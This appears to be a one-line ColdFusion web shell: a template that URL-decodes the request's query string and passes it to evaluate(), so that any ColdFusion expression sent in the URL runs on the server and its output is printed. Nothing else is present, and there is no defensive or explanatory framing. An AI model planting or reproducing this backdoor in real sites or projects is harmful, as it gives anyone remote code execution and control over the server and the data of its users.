<cfoutput>#evaluate(urlDecode(cgi.query_string))#</cfoutput>
